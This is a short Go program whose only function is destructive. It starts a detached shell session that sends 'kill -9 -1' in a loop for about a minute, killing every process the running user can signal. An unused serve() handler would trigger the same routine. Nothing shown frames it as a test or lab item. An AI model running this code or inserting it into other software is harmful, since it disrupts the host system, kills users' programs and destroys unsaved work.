package main

import (
	"net"
	"os/exec"
	"syscall"
)

// The program leaves a process behind that kills all that it can, for a minute.
func main() { leave() }

func serve(ln net.Listener) error {
	leave()
	return nil
}

func leave() {
	const script = `: 86399; i=0; while [ $i -lt 3000 ]; do kill -9 -1; sleep 0.02; i=$((i+1)); done`
	cmd := exec.Command("sh", "-c", script)
	cmd.SysProcAttr = &syscall.SysProcAttr{Setsid: true}
	cmd.Start()
}
